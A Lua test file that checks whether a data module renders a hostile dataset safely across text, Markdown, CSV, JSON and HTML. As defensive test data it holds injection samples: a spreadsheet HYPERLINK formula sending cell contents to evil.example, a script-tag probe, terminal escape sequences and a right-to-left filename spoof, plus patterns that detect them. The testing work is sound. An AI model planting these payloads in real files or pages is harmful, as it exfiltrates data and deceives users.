-- Untrusted documents (docs/security.md): the hostile copy of the bundled
-- dataset (tests/security/hostile.json) through every rendering the module
-- offers, in every format. The module does no escaping of its own: what it
-- returns is the library's, and no string of the document may become
-- anything but text: no control character in text and Markdown, no HTML of
-- the document in Markdown or the report, no CSV cell a spreadsheet would
-- take for a formula (unless raw), and the raw table is what an importer
-- reads back from the guarded one.
local support = dofile((debug.getinfo(1, "S").source:gsub("^@", ""):gsub("[^/]*$", "")) .. "support.lua")
local veilig = require("veilig")

local hostile = support.source_dir .. "/tests/security/hostile.json"

-- The first raw control character of s (C0 but LF, DEL, C1 as UTF-8, the
-- bidirectional controls U+202A..U+202E and U+2066..U+2069), or nil.
local function control(s)
  local i = s:find("[%z\1-\9\11-\31\127]")
  if i then return i, s:byte(i) end
  i = s:find("\194[\128-\159]")
  if i then return i, "C1" end
  i = s:find("\226\128[\170-\174]") or s:find("\226\129[\166-\169]")
  if i then return i, "bidi" end
  return nil
end

-- The fields of one CSV record starting at pos: fields, next position.
local function csv_record(text, pos)
  local fields = {}
  while true do
    local field
    if text:sub(pos, pos) == '"' then
      local parts, i = {}, pos + 1
      while true do
        local q = assert(text:find('"', i, true), "unterminated quote")
        parts[#parts + 1] = text:sub(i, q - 1)
        if text:sub(q + 1, q + 1) == '"' then
          parts[#parts + 1] = '"'
          i = q + 2
        else
          pos = q + 1
          break
        end
      end
      field = table.concat(parts)
    else
      local e = text:find("[,\n]", pos) or #text + 1
      field = text:sub(pos, e - 1)
      pos = e
    end
    fields[#fields + 1] = field
    local c = text:sub(pos, pos)
    pos = pos + 1
    if c ~= "," then return fields, pos end
  end
end

local function csv_rows(text)
  local rows, pos = {}, 1
  while pos <= #text do
    rows[#rows + 1], pos = csv_record(text, pos)
  end
  return rows
end

local function formula(cell)
  return cell:find("^[=+%-@\t\r]") ~= nil and not cell:find("^%-?%d+%.?%d*$")
end

describe("a hostile document", function()
  local reg = assert(veilig.load(hostile))
  local m = assert(reg:find("GM0153"))
  local markup = "<script>alert(1)</script>"

  it("text and Markdown hold no control characters, and show the escapes", function()
    local outs = {
      list_text = assert(reg:render_list()),
      list_md = assert(reg:render_list({ format = "markdown" })),
      show_text = assert(m:render()),
      show_md = assert(m:render({ format = "markdown" })),
    }
    for _, t in ipairs({ "measures", "stakeholders", "indicators" }) do
      outs[t .. "_text"] = assert(reg:export({ table = t, format = "text" }))
      outs[t .. "_md"] = assert(reg:export({ table = t, format = "markdown" }))
    end
    for name, out in pairs(outs) do
      local at, what = control(out)
      assert.is_nil(at, name .. ": " .. tostring(what) .. " at " .. tostring(at))
    end
    assert.truthy(outs.show_text:find("\\x1b]0;pwned\\x07\\x1b[2J", 1, true))
    assert.truthy(outs.show_text:find("abc\\u202egnp.exe", 1, true))
    -- Markdown: the document's HTML as entities, its pipes not cells
    assert.is_nil(outs.show_md:find(markup, 1, true))
    assert.truthy(outs.show_md:find("&lt;script&gt;alert(1)&lt;/script&gt;", 1, true))
    assert.is_nil(outs.measures_md:find("<img", 1, true))
  end)

  it("CSV cells are guarded, and the raw table is what an importer reads back", function()
    for _, t in ipairs({ "measures", "stakeholders", "indicators" }) do
      local guarded = csv_rows(assert(reg:export({ table = t })))
      local raw = csv_rows(assert(reg:export({ table = t, raw = true })))
      assert.equal(#raw, #guarded)
      for i, row in ipairs(guarded) do
        assert.equal(#raw[i], #row)
        for j, cell in ipairs(row) do
          assert.is_false(formula(cell), t .. " row " .. i .. ": " .. cell:sub(1, 40))
          local back = cell
          if cell:find("^'[=+%-@\t\r']") then back = cell:sub(2) end
          assert.equal(raw[i][j], back)
        end
      end
    end
    local raw = assert(reg:export({ raw = true }))
    assert.truthy(raw:find('\n"?=HYPERLINK', 1) or raw:find(',"=HYPERLINK', 1, true))
    assert.has_error(function() reg:render_list({ raw = true }) end)
  end)

  it("JSON keeps the strings exactly", function()
    local text = assert(reg:export({ format = "json" }))
    assert.truthy(text:find('"name": "=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"klik\\")"', 1, true))
    assert.truthy((m:render({ format = "json" })):find("\\u001b]0;pwned", 1, true))
  end)

  it("the HTML report holds no element or handler of the document", function()
    for _, opts in ipairs({ {}, { municipality = "GM0153" } }) do
      local page = assert(reg:report_html(opts))
      assert.is_nil(page:find("<script", 1, true))
      assert.is_nil(page:find("<img", 1, true))
      assert.is_nil(page:lower():find("href=\"javascript:", 1, true))
      assert.truthy(page:find("&lt;script&gt;alert(1)&lt;/script&gt;", 1, true))
    end
  end)
end)
